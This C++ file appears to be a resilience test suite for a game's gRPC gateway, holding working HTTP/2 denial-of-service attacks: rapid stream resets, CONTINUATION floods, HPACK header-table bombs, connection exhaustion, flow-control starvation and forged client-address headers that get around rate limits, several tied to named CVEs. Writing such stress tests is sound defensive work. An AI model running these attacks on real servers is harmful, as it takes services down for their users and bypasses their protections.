#include "tests/hostile/attacks.h"

#include <signal.h>

#include <chrono>
#include <functional>
#include <memory>
#include <thread>

#include "absl/strings/str_cat.h"
#include "libs/base/clock.h"
#include "tarot/gateway/v1/session_service.pb.h"

namespace tarot::hostile {
namespace {

using Stop = std::atomic<bool>;

constexpr absl::string_view kGetTable = "/tarot.rules.v1.TableService/GetTable";
constexpr absl::string_view kHealth = "/grpc.health.v1.Health/Check";
// The message of CreateGuestSession: the display name is Eve.
constexpr absl::string_view kEve =
    "\x0a\x03"
    "Eve";
// SETTINGS_HEADER_TABLE_SIZE and SETTINGS_INITIAL_WINDOW_SIZE.
constexpr int kTableSize = 1, kWindow = 4;

void Sleep(int ms) { std::this_thread::sleep_for(std::chrono::milliseconds(ms)); }

// One connection of an attacker, and the number of its next stream.
struct Line {
  Line(const Target& target, int source) : connection(target, source) {}

  RawConnection connection;
  unsigned stream = 1;
};

// Keeps up to `count` connections open, divided among the attacker's addresses. If a connection has
// ended, opens a new one. Sends what `first` returns on each new connection. Sends what `each`
// returns on all connections, again and again with pauses of `pause_ms`.
void Keep(const Target& target, std::size_t count, int pause_ms, const Stop& stopping,
          const std::function<std::string(Line&)>& first,
          const std::function<std::string(Line&)>& each) {
  std::vector<std::unique_ptr<Line>> lines;
  for (int opened = 0; !stopping;) {
    for (int i = 0; i < 200 && !stopping && lines.size() < count; ++i) {
      auto line = std::make_unique<Line>(target, opened++);
      if (line->connection.Open() && line->connection.Push(first(*line))) {
        lines.push_back(std::move(line));
      } else {
        Sleep(1);
      }
    }
    std::erase_if(lines, [&](const auto& line) {
      RawConnection& connection = line->connection;
      if (!connection.Open() || !connection.Push("")) return true;
      return connection.pushed() && line->stream < 1u << 30 && !connection.Push(each(*line));
    });
    Sleep(pause_ms);
  }
}

std::string OnlyPreface(Line&) { return Preface(); }
std::string Nothing(Line&) { return ""; }

// 1,200 connections are more than 1,024 descriptors, the usual limit. Debian's gRPC never accepts
// again after this limit (CVE-2023-4785).
std::string HoldConnections(const Target& target, const Stop& stopping) {
  Keep(target, 1'200, 20, stopping, Nothing, Nothing);
  return "";
}

// Makes one call on each connection, which the door then keeps open for the next call.
std::string HoardConnections(const Target& target, const Stop& stopping) {
  const auto call = [](Line&) {
    return absl::StrCat(Preface(), HeadersOf(1, kGetTable), MessageOf(1, ""));
  };
  Keep(target, 10'000, 20, stopping, call, Nothing);
  return "";
}

std::string OpenAndClose(const Target& target, const Stop& stopping) {
  for (int i = 0; !stopping; ++i) {
    const RawConnection connection(target, i);
  }
  return "";
}

// CVE-2023-44487: opens streams and resets them at full speed.
std::string ResetStreams(const Target& target, const Stop& stopping) {
  Keep(target, 4, 0, stopping, OnlyPreface, [](Line& line) {
    std::string burst;
    for (int i = 0; i < 200; ++i, line.stream += 2) {
      absl::StrAppend(&burst, HeadersOf(line.stream, kSignIn), ResetOf(line.stream));
    }
    return burst;
  });
  return "";
}

// Resets whole calls at full speed. The door may forward such a call before the reset comes.
std::string ResetCalls(const Target& target, const Stop& stopping) {
  Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
    std::string burst;
    for (int i = 0; i < 50; ++i, line.stream += 2) {
      absl::StrAppend(&burst, HeadersOf(line.stream, kGetTable), MessageOf(line.stream, ""));
    }
    for (unsigned stream = line.stream - 100; stream < line.stream; stream += 2) {
      burst += ResetOf(stream);
    }
    return burst;
  });
  return "";
}

// Sends whole calls at full speed: calls without a token, health checks and sign-ins.
std::string FloodCalls(const Target& target, const Stop& stopping) {
  Keep(target, 40, 0, stopping, OnlyPreface, [](Line& line) {
    std::string burst;
    for (int i = 0; i < 50; ++i, line.stream += 2) {
      const absl::string_view path = i % 3 == 0 ? kGetTable : i % 3 == 1 ? kHealth : kSignIn;
      absl::StrAppend(&burst, HeadersOf(line.stream, path),
                      MessageOf(line.stream, path == kSignIn ? kEve : ""));
    }
    return burst;
  });
  return "";
}

// 300,000 calls whose message never comes.
std::string OpenHalfCalls(const Target& target, const Stop& stopping) {
  const auto open = [](Line& line) {
    std::string calls = Preface();
    for (; line.stream < 500; line.stream += 2) calls += HeadersOf(line.stream, kSignIn);
    return calls;
  };
  Keep(target, 1'200, 20, stopping, open, Nothing);
  return "";
}

// 200 connections whose headers come some bytes at a time and never end.
std::string SendSlowHeaders(const Target& target, const Stop& stopping) {
  const auto begin = [](Line& line) {
    return absl::StrCat(Preface(), Frame(kHeaders, 0, line.stream, HeaderBlock(kSignIn)));
  };
  const auto more = [](Line& line) {
    return Frame(kContinuation, 0, line.stream, Header("a", "b"));
  };
  Keep(target, 200, 20, stopping, begin, more);
  return "";
}

// CVE-2024-27316 and others: headers that never end, at full speed.
std::string FloodContinuations(const Target& target, const Stop& stopping) {
  const auto begin = [](Line& line) {
    return absl::StrCat(Preface(), Frame(kHeaders, 0, line.stream, HeaderBlock(kSignIn)));
  };
  const auto more = [](Line& line) {
    std::string burst;
    for (int i = 0; i < 200; ++i) burst += Frame(kContinuation, 0, line.stream, "");
    return burst;
  };
  Keep(target, 8, 0, stopping, begin, more);
  return "";
}

// CVE-2023-33953: a large header enters HPACK's dynamic table, and each further byte repeats it.
std::string BombHeaderTables(const Target& target, const Stop& stopping) {
  const auto begin = [](Line&) { return Preface({{kTableSize, 1u << 20}}); };
  const auto bomb = [](Line& line) {
    std::string burst;
    for (int i = 0; i < 20; ++i, line.stream += 2) {
      std::string block = HeaderBlock(kSignIn);
      // The table grows and shrinks, and then takes the large header.
      block = absl::StrCat("\x20\x3f\xe1\x1f", block, Header("bomb", std::string(3'000, 'x'), true),
                           std::string(2'000, '\xbe'));
      absl::StrAppend(&burst, Frame(kHeaders, kEndHeaders, line.stream, block),
                      MessageOf(line.stream, kEve));
    }
    return burst;
  };
  Keep(target, 6, 0, stopping, begin, bomb);
  return "";
}

std::string FloodPings(const Target& target, const Stop& stopping) {
  Keep(target, 8, 0, stopping, OnlyPreface, [](Line&) {
    std::string burst;
    for (int i = 0; i < 500; ++i) burst += Frame(kPing, 0, 0, "12345678");
    return burst;
  });
  return "";
}

std::string FloodSettings(const Target& target, const Stop& stopping) {
  Keep(target, 8, 0, stopping, OnlyPreface, [](Line&) {
    std::string burst;
    for (int i = 0; i < 500; ++i) burst += Frame(kSettings, 0, 0, "");
    return burst;
  });
  return "";
}

// Signs guests in. Returns the headers of their calls.
std::vector<Headers> SignIn(const Target& target, int count, const Stop& stopping) {
  std::vector<Headers> guests;
  for (int i = 0; static_cast<int>(guests.size()) < count && i < 10 * count && !stopping; ++i) {
    RawConnection connection(target, i);
    gateway::v1::CreateGuestSessionResponse response;
    const Answer answer = connection.Call(kSignIn, kEve, {}, absl::Seconds(5));
    if (answer.status != 0 || !response.ParseFromString(answer.message)) {
      // For three seconds after an attack, the door takes no connections from the addresses of the
      // attack.
      Sleep(100);
      continue;
    }
    guests.push_back({{"authorization", absl::StrCat("Bearer ", response.session().token())}});
  }
  return guests;
}

// Guests make calls, but their flow control windows never let the server send the answers.
std::string LeaveAnswersUnread(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 40, stopping);
  if (guests.empty()) return "No guest could sign in.";
  std::size_t next = 0;
  const auto begin = [](Line& line) {
    line.connection.ShrinkBuffers();
    return Preface({{kWindow, 0}});
  };
  const auto calls = [&](Line& line) {
    std::string burst;
    for (int i = 0; i < 20; ++i, line.stream += 2) {
      absl::StrAppend(&burst,
                      HeadersOf(line.stream, "/tarot.matchmaking.v1.MatchmakingService/ListQueues",
                                guests[next++ % guests.size()]),
                      MessageOf(line.stream, ""));
    }
    return burst;
  };
  Keep(target, 200, 5, stopping, begin, calls);
  return "";
}

// Ten guests ask for pages of finished matches at full speed, and read the answers.
std::string ListFinishedTables(const Target& target, const Stop& stopping) {
  const std::vector<Headers> guests = SignIn(target, 10, stopping);
  if (guests.size() < 10) return "The guests could not sign in.";
  const absl::string_view path = "/tarot.rules.v1.TableService/ListTables";
  const absl::string_view page = "\x10\x01\x18\x64";  // show_finished is true, page_size is 100.
  const Answer first = RawConnection(target).Call(path, page, guests[0], absl::Seconds(5));
  if (first.status != 0 || first.message.size() < 10'000) return "The server returned no list.";
  const auto begin = [](Line&) {  // The windows of the connection and its streams never close.
    return absl::StrCat(Preface({{kWindow, 0x7fffffff}}),
                        Frame(kWindowUpdate, 0, 0, absl::string_view("\x7f\xff\x00\x00", 4)));
  };
  std::size_t next = 0;
  const auto lists = [&](Line& line) {
    std::string burst;
    for (int i = 0; i < 4; ++i, line.stream += 2) {
      absl::StrAppend(&burst, HeadersOf(line.stream, path, guests[next++ % guests.size()]),
                      MessageOf(line.stream, page));
    }
    return burst;
  };
  Keep(target, 20, 1, stopping, begin, lists);
  return "";
}

// Signs guests in, each under an address of its own in the header that only the door may set. The
// gateway allows an address 100 sign-ins at once and 5 a second.
std::string ForgeAddresses(const Target& target, const Stop& stopping) {
  const Stopwatch watch;
  int accepted = 0;
  for (int i = 0; !stopping; ++i) {
    const std::string forged = absl::StrCat("192.0.", i / 256 % 256, ".", i % 256);
    RawConnection connection(target);
    accepted +=
        connection.Call(kSignIn, kEve, {{"x-tarot-client-address", forged}}, absl::Seconds(5))
            .status == 0;
    Sleep(5);
  }
  const double fair = 100 + 5 * absl::ToDoubleSeconds(watch.Elapsed()) + 1;
  if (accepted <= fair) return "";
  return absl::StrCat(accepted, " sign-ins of one address were accepted, not ", fair);
}

// The operator, not an attacker, loads the door's configuration again and again.
std::string ReloadDoor(const Target& target, const Stop& stopping) {
  while (!stopping) {
    kill(target.door, SIGUSR2);
    for (int i = 0; i < 20 && !stopping; ++i) Sleep(100);
  }
  return "";
}

}  // namespace

const std::vector<Attack>& Attacks() {
  static const auto& attacks = *new std::vector<Attack>{
      {"none", "does nothing, for comparison",
       [](const Target&, const Stop&) { return std::string(); }},
      {"connections", "holds 1,200 connections open without a byte", HoldConnections},
      {"hoarding", "makes one call on each of 10,000 connections and keeps them", HoardConnections},
      {"churn", "opens and closes connections at full speed", OpenAndClose},
      {"resets", "opens and resets streams at full speed", ResetStreams},
      {"call_resets", "sends and resets whole calls at full speed", ResetCalls},
      {"calls", "makes whole calls at full speed", FloodCalls},
      {"half_calls", "opens 300,000 calls whose message never comes", OpenHalfCalls},
      {"slow_headers", "sends headers on 200 connections that never end", SendSlowHeaders},
      {"continuations", "sends empty headers that never end at full speed", FloodContinuations},
      {"header_tables", "sends header tables that make headers large", BombHeaderTables},
      {"pings", "sends pings at full speed", FloodPings},
      {"settings", "sends settings at full speed", FloodSettings},
      {"unread", "makes calls of guests and never reads their answers", LeaveAnswersUnread},
      {"lists", "asks for pages of finished matches as ten guests", ListFinishedTables, 50},
      {"forged_address", "signs in under forged addresses", ForgeAddresses},
      {"reloads", "loads the door's configuration every two seconds", ReloadDoor},
  };
  return attacks;
}

}  // namespace tarot::hostile
